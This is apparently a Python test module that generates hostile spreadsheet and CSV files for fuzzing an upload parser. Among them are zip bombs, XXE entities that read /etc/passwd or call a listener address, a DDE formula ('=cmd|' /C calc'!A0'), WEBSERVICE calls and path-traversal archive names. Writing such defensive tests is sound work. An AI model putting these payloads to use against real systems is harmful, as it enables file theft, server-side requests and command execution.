"""Files that nobody should send, made from a seed: the same every time."""

import gzip
import io
import random
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

from hoanhap.ground.exchange import old_letters, sources
from tests.exchange.builders import (
    BOOK,
    HEADINGS,
    LINES,
    MAIN,
    PEOPLE,
    SHEET,
    SLIPPED,
    STRINGS,
    Hostile,
    csv,
    csv_text,
    expected,
    part_of,
    repacked,
    sheet,
    text_row,
    workbook,
)
from tests.exchange.payloads import PAYLOADS


def hostile_files(seed: int, listener: str) -> list[Hostile]:
    """All of them. ``listener``: an address at which somebody listens whether a file makes anyone call."""
    draw = random.Random(seed)
    made = [bombs(), entities(listener), far_out(), macros_and_links(listener), names(), tables(), cells()]
    made += [payloads(), letters(), damaged(draw), impostors(draw)]
    return [one for part in made for one in part]


def bombs() -> Iterator[Hostile]:
    swollen = expected("swollen", "damaged")
    blank = b" " * (sources.UNPACKED + 10)
    yield Hostile("bomb: strings", repacked({STRINGS: b"<sst>" + blank}), swollen)
    yield Hostile("bomb: a part nobody uses", repacked(more=[("xl/media/a.bin", blank)]), swollen)
    small = b"\x00" * (6 * sources.MEGABYTE)
    yield Hostile("bomb: many parts", repacked(more=[(f"xl/m{n}.bin", small) for n in range(20)]), swollen)
    yield Hostile("bomb: thousands of parts", repacked(more=[(f"x/{n}", b"") for n in range(3000)]), swollen)
    inner = repacked(more=[("xl/media/a.bin", blank)])
    for _depth in range(3):
        inner = repacked(more=[("xl/embeddings/a.zip", inner)])
    yield Hostile("bomb: nested", inner)
    yield Hostile("bomb: one part under many names", overlapping(), swollen | expected("wrong_type"))
    long = "A" * 30_000
    far = [chr(65 + at) for at in range(20)]
    told = ("".join(f'<c r="{letter}{n}" t="s"><v>8</v></c>' for letter in far) for n in range(2, 4000))
    cells_ = "".join(f'<row r="{n}">{row}</row>' for n, row in enumerate(told, start=2))
    strings = "".join(f"<si><t>{title}</t></si>" for title in HEADINGS) + f"<si><t>{long}</t></si>"
    head = "".join(f'<c r="{chr(65 + n)}1" t="s"><v>{n}</v></c>' for n in range(8))
    one_text = {
        STRINGS: f'<sst xmlns="{MAIN}">{strings}</sst>'.encode(),
        SHEET: f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{head}</row>{cells_}</sheetData></worksheet>'.encode(),
    }
    yield Hostile("bomb: one long text in many cells", repacked(one_text), expected("too_heavy", "swollen"))
    yield Hostile("bomb: gzip", gzip.compress(blank), expected("wrong_type"))


def overlapping() -> bytes:
    """Many entries of a directory that name the same megabytes."""
    packer = zlib.compressobj(9, wbits=-15)
    raw = b" " * (8 * sources.MEGABYTE)
    packed, crc = packer.compress(raw) + packer.flush(), zlib.crc32(raw)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(packed), len(raw), 15, 0)
    body = local + b"xl/workbook.xml" + packed
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(packed), len(raw), 15, *[0] * 6)
    directory = (entry + b"xl/workbook.xml") * 500
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 500, 500, len(directory), len(body), 0)
    return body + directory + end


def entities(listener: str) -> Iterator[Hostile]:
    parts = [SHEET, STRINGS, "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml", "xl/styles.xml"]
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    kinds = {
        "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "http": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{listener}/xxe">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{listener}/dtd"> %e;]>',
        "dtd": f'<!DOCTYPE x SYSTEM "{listener}/x.dtd">',
        "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}<!ENTITY e "&l9;">]>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY e "{"A" * 100_000}">]>',
    }
    for kind, declared in kinds.items():
        for part in parts if kind in ("file", "http", "billion laughs") else parts[:2]:
            xml = part_of(part).replace(b"?>", b"?>" + declared.encode(), 1).replace(b"<t>", b"<t>&e;")
            yield Hostile(f"entity: {kind} in {part}", repacked({part: xml}), expected("damaged"))
        wide = part_of(SHEET).decode().replace("UTF-8", "UTF-16").replace("?>", "?>" + declared, 1).encode("utf-16")
        yield Hostile(f"entity: {kind}, UTF-16", repacked({SHEET: wide}))
    yield Hostile("xml: deep", repacked({SHEET: b"<a>" * 300_000}))
    yield Hostile("xml: a tag that never ends", repacked({SHEET: b"<row " + b"a='b' " * 1_000_000}))
    yield Hostile("xml: a million attributes", sheet('<row r="1"><c ' + 'r="A1" ' * 500_000 + "/></row>"))
    yield Hostile(
        "xml: XInclude", sheet(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{listener}/"/>')
    )
    yield Hostile(
        "xml: style sheet", repacked({SHEET: f'<?xml-stylesheet href="{listener}/"?>'.encode() + part_of(SHEET)})
    )


def far_out() -> Iterator[Hostile]:
    wide, long = expected("too_wide"), expected("too_many_rows")
    yield Hostile("far: a million columns, CSV", b"a," * 1_000_000, wide | expected("no_header"))
    yield Hostile("far: a million columns", sheet('<row r="1">' + "<c/>" * 1_000_000 + "</row>"), wide)
    yield Hostile("far: the last cell", sheet('<row r="1"><c r="XFD1048576"><v>1</v></c></row>'), long)
    yield Hostile("far: beyond the last cell", sheet('<row r="4294967295"><c r="ZZZZZZ4294967295"/></row>'), long)
    far = (
        part_of(SHEET)
        .decode()
        .replace("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    )
    yield Hostile("far: the last cell, UTF-16", repacked({SHEET: far.replace("UTF-8", "UTF-16").encode("utf-16")}))
    yield Hostile(
        "far: an address in hiding",
        sheet("<row r='1'><c r='A&#49;&#48;&#48;&#48;&#48;&#48;'/></row>"),
        expected("damaged"),
    )
    yield Hostile("far: a million rows, CSV", csv([HEADINGS]) + b"\r\na" * 1_000_000, long | expected("too_large"))
    yield Hostile("far: a million empty rows, CSV", csv() + b"\r\n" * 1_000_000, long)
    yield Hostile(
        "far: one line of nine megabytes", b'"' + b"a" * (9 * sources.MEGABYTE), expected("damaged", "no_header")
    )
    yield Hostile("far: dimension", repacked({SHEET: part_of(SHEET).replace(b'ref="A1:H4"', b'ref="A1:XFD1048576"')}))
    yield Hostile("far: too large", csv() + b"x" * 11 * sources.MEGABYTE, expected("too_large"))
    yield Hostile("far: 300 columns", workbook([[*HEADINGS, *range(300)]]), wide)


def macros_and_links(listener: str) -> Iterator[Hostile]:
    yield Hostile("macro: project", repacked(more=[("xl/vbaProject.bin", b"x")]), expected("macros"))
    yield Hostile("macro: elsewhere", repacked(more=[("xl/a/b/vbaProject.bin", b"x")]), expected("macros"))
    yield Hostile(
        "macro: sheet", repacked(more=[("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")]), expected("macros")
    )
    yield Hostile("macro: signed", repacked(more=[("xl/VBAPROJECT.BIN", b"x")]), expected("macros"))
    link = f'<Relationships><Relationship Id="r9" Target="{listener}/a.xlsx" TargetMode="External"/></Relationships>'
    for name in (
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        "xl/worksheets/_rels/sheet1.xml.rels",
        "xl/connections.xml",
        "xl/drawings/_rels/drawing1.xml.rels",
        "xl/queryTables/queryTable1.xml",
    ):
        yield Hostile(f"link: {name}", repacked(more=[(name, link.encode())]))
    sheets = part_of("xl/_rels/workbook.xml.rels").replace(b"worksheets/sheet1.xml", f"{listener}/s.xml".encode())
    yield Hostile("link: the sheet itself", repacked({"xl/_rels/workbook.xml.rels": sheets}))
    formulas = [f'=WEBSERVICE("{listener}")', f"='[{listener}/a.xlsx]S'!A1", "=cmd|' /C calc'!A0", '=HYPERLINK("x")']

    def build(_book: Any, page: Any) -> None:
        for at, formula in enumerate(formulas, start=1):
            page.write_formula(at, 7, formula, value="=1+1")
        page.write_url(1, 8, f"{listener}/x")

    yield Hostile("link: formulas", workbook(LINES, build))


def names() -> Iterator[Hostile]:
    for name in (
        f"../../../../../..{SLIPPED}",
        SLIPPED,
        f"..\\..{SLIPPED}",
        "C:\\slipped",
        "a\x00b",
        "xl/../../x",
        "?*|",
        "." * 60_000,
    ):
        yield Hostile(f"name: {name[:20]!r}", repacked(more=[(name, b"slipped")]))
    into = io.BytesIO(workbook())
    with zipfile.ZipFile(into, "a") as packed:
        info = zipfile.ZipInfo("link")
        info.external_attr = 0o120777 << 16
        packed.writestr(info, "/etc/passwd")
    yield Hostile("name: a symbolic link", into.getvalue())


def tables() -> Iterator[Hostile]:
    def merged(book: Any, page: Any) -> None:
        page.merge_range(0, 0, 1, 7, "DANH SÁCH NGƯỜI SAU CAI NGHIỆN")
        page.merge_range(3, 1, 3, 2, "Họ và tên")

    yield Hostile("table: merged headings", workbook([[], [], [], HEADINGS, *PEOPLE], merged))
    yield Hostile("table: only headings", workbook([HEADINGS]), expected("no_rows"))
    yield Hostile("table: only headings, CSV", csv([HEADINGS]), expected("no_rows"))
    yield Hostile("table: nothing", workbook([]), expected("no_rows"))
    hidden = part_of(BOOK).replace(b"<sheet ", b'<sheet state="hidden" ')
    yield Hostile("table: only hidden sheets", repacked({BOOK: hidden}), expected("no_rows"))
    none = f'<workbook xmlns="{MAIN}"/>'.encode()
    yield Hostile("table: no sheets", repacked({BOOK: none}), expected("no_rows", "damaged"))
    yield Hostile("table: headings far down", workbook([[""]] * 30 + LINES), expected("no_header"))
    yield Hostile("table: a heading twice", csv([[*HEADINGS, "Họ tên"]]), expected("column_twice"))
    yield Hostile("table: no headings", csv(PEOPLE), expected("no_header"))
    yield Hostile("table: an endless heading", csv([["A" * 100_000, *HEADINGS], *PEOPLE]), expected("column_unknown"))
    yield Hostile(
        "table: a heading with signs", csv([["%(x)s {0} <b>", *HEADINGS], *PEOPLE]), expected("column_unknown")
    )
    yield Hostile(
        "table: rows of many lengths", b"\r\n".join([csv([HEADINGS]), b"1", b"1,2,3,4,5,6,7,8,9,10", b",,", b""])
    )


def cells() -> Iterator[Hostile]:
    odd = [
        "NaN",
        "nan",
        "inf",
        "-Infinity",
        "1e308",
        "1e400",
        "-0",
        "-1",
        "99999999999",
        "1e-300",
        "0x10",
        "٣٤",
        "⑨",
        "²",
        "2958466",
        "60",
        "0.5",
        "-0.5",
        "1,5",
    ]
    odd += ["1" * 400, ""]
    head = text_row(1, HEADINGS)
    for value in odd:
        told = "".join(f'<c r="{letter}2"><v>{value}</v></c>' for letter in "ABCDEFG")
        yield Hostile(f"cell: number {value[:12]}", sheet(f'{head}<row r="2">{told}</row>'))
        yield Hostile(f"cell: text {value[:12]}", csv([HEADINGS, [value] * 8]))
    kinds = [("s", "99999"), ("s", "-1"), ("b", "7"), ("e", "#REF!"), ("d", "2022-13-45"), ("d", "9999-99"), ("z", "1")]
    kinds += [("str", text) for text in ("_x0000__xD800__x0008_", "&#xD800;", "&#0;", "&x;")]
    for kind, value in kinds:
        told = "".join(f'<c r="{letter}2" t="{kind}"><v>{value}</v></c>' for letter in "ABCDEFG")
        yield Hostile(f"cell: {kind} {value}", sheet(f'{head}<row r="2">{told}</row>'))
    days = "".join(f'<c r="{letter}2" s="1"><v>-700000</v></c>' for letter in "ABCDEFG")
    yield Hostile("cell: a day before all days", sheet(f'{head}<row r="2">{days}</row>'))
    yield Hostile(
        "cell: a surrogate", csv([HEADINGS]) + b"\r\n1,\xed\xa0\x80,Nam,1990", expected("encoding", "wrong_type")
    )
    yield Hostile(
        "cell: marks without end", csv([HEADINGS, [1, "Mẫu" + "\u0301" * 50_000, "Nam", "1990", "", "", "", ""]])
    )
    yield Hostile("cell: right to left", csv([HEADINGS, [1, "\u202eẫuM", "Nam", "1990\u202e", "\u202e12", "", "", ""]]))


def payloads() -> Iterator[Hostile]:
    rows = [[1, *[text] * 7] for text in PAYLOADS]
    for at, row in enumerate(rows[::6]):
        yield Hostile(f"payload {at}, CSV", csv([HEADINGS, [cell.replace("\x00", "") for cell in map(str, row)]]))
        yield Hostile(f"payload {at} as a heading", workbook([[*HEADINGS, row[1]], *PEOPLE]))
    yield Hostile("payloads, CSV", csv([HEADINGS, *rows]).replace(b"\x00", b""))
    yield Hostile("payloads", workbook([HEADINGS, *rows]))


def letters() -> Iterator[Hostile]:
    text, old = csv_text(), expected("old_letters")
    tcvn3 = {to: chr(code) for code, to in old_letters._TCVN3.items()}
    viscii = {to: code for code, to in old_letters._VISCII.items()}
    in_tcvn3 = "".join(tcvn3.get(ch, tcvn3.get(ch.lower(), ch)) for ch in text)
    yield Hostile("letters: TCVN3, CSV", in_tcvn3.encode("latin-1"), old)
    yield Hostile("letters: TCVN3, workbook", workbook([line.split(",") for line in in_tcvn3.split("\r\n")]), old)
    only_names = [HEADINGS, [1, "NguyÔn V¨n MÉu", "Nam", "1990", "", "", "", ""]]
    yield Hostile("letters: TCVN3 under good headings", workbook(only_names), old)
    vni = csv([["Hoï vaø teân", "Giôùi tính", "Ngaøy sinh"], ["Nguyeãn Vaên Maãu", "Nam", "1990"]], "cp1252")
    yield Hostile("letters: VNI, CSV", vni, old)
    yield Hostile(
        "letters: VNI, workbook", workbook([["Hoï vaø teân", "Giôùi tính"], ["Nguyeãn Vaên Maãu", "Nam"]]), old
    )
    in_viscii = bytes(viscii.get(ch, ord(ch) if ord(ch) < 128 else 63) for ch in text)
    yield Hostile("letters: VISCII", in_viscii, old)
    windows = unicodedata.normalize("NFD", text).replace("\u0302", "^").encode("cp1258", "replace")
    yield Hostile("letters: Windows-1258", windows, expected("encoding", "old_letters", "no_header"))
    for encoding in ("utf-16-le", "utf-16-be", "utf-32", "utf-7", "utf-16", "utf-8-sig"):
        yield Hostile(f"letters: {encoding}", csv(encoding=encoding))
    yield Hostile(
        "letters: UTF-16 cut in half", csv(encoding="utf-16")[:-1], expected("encoding", "wrong_type", "old_letters")
    )
    yield Hostile("letters: two marks", b"\xef\xbb\xbf" * 2 + csv())
    for form in ("NFD", "NFKD", "NFC"):
        yield Hostile(f"letters: {form}", unicodedata.normalize(form, text).encode())  # type: ignore[arg-type]
    mixed = "".join(unicodedata.normalize("NFD" if at % 2 else "NFC", ch) for at, ch in enumerate(text))
    yield Hostile("letters: mixed forms", mixed.encode())


def damaged(draw: random.Random) -> Iterator[Hostile]:
    book, table = workbook(), csv()
    for at in sorted(draw.sample(range(1, len(book)), 30)):
        yield Hostile(f"damage: workbook ends at {at}", book[:at], expected("damaged", "wrong_type", "encoding"))
    for at in sorted(draw.sample(range(1, len(table)), 10)):
        yield Hostile(f"damage: CSV ends at {at}", table[:at])
    for number in range(60):
        flipped = bytearray(book if number < 45 else table)
        for _ in range(draw.choice([1, 1, 3, 20, 200])):
            flipped[draw.randrange(len(flipped))] ^= 1 << draw.randrange(8)
        yield Hostile(f"damage: flipped {number}", bytes(flipped))
    stored = repacked(method=zipfile.ZIP_STORED)
    for number in range(30):
        flipped = bytearray(stored)
        for _ in range(draw.choice([1, 5, 50])):
            flipped[draw.randrange(len(flipped))] = draw.randrange(256)
        yield Hostile(f"damage: unpacked and flipped {number}", bytes(flipped))
    for number in range(20):
        xml = bytearray(part_of(draw.choice([SHEET, STRINGS])))
        for _ in range(draw.choice([1, 3, 10])):
            xml[draw.randrange(len(xml))] = draw.choice(b"<>&\"'/ =A09;")
        yield Hostile(f"damage: sheet {number}", repacked({SHEET: bytes(xml)}))
    for number in range(8):
        noise = draw.randbytes(draw.choice([1, 10, 1000, 100_000]))
        yield Hostile(f"damage: noise {number}", (b"PK\x03\x04" if number % 2 else b"") + noise)


def impostors(draw: random.Random) -> Iterator[Hostile]:
    wrong = expected("wrong_type")
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr("word/document.xml", "<w:document><w:body/></w:document>")
    yield Hostile("impostor: paper", into.getvalue(), wrong)
    yield Hostile("impostor: empty package", b"PK\x05\x06" + b"\x00" * 18, wrong)
    ole = sources.OLD_EXCEL + draw.randbytes(2000)
    yield Hostile("impostor: old Excel", ole, expected("old_excel"))
    yield Hostile("impostor: password", ole + "EncryptedPackage".encode("utf-16-le"), expected("locked"))
    for name, content in {
        "picture": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + draw.randbytes(500),
        "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3",
        "page": b"<html><table><tr><td>H</td></tr></table></html>",
        "RTF": b"{\\rtf1 x}",
        "XML": b"<?xml version='1.0'?><Workbook/>",
        "7z": b"7z\xbc\xaf'\x1c\x00\x04" + draw.randbytes(200),
    }.items():
        yield Hostile(f"impostor: {name}", content, wrong | expected("encoding"))
    yield Hostile("impostor: JSON", b'[{"a": 1, "b": 2}]', expected("no_header"))
    yield Hostile("impostor: nothing", b"", expected("empty_file"))
    yield Hostile("impostor: blanks", b" \r\n\t" * 1000, expected("empty_file"))
    yield Hostile("impostor: nulls", b"\x00" * 5000, expected("empty_file"))
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, zipfile.ZIP_STORED):
        yield Hostile(f"impostor: packed another way {method}", repacked(method=method))
    locked = bytearray(workbook())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = locked.find(sign)
        while place >= 0:
            locked[place + at] |= 1
            place = locked.find(sign, place + 4)
    yield Hostile("impostor: parts with a password", bytes(locked), expected("damaged"))
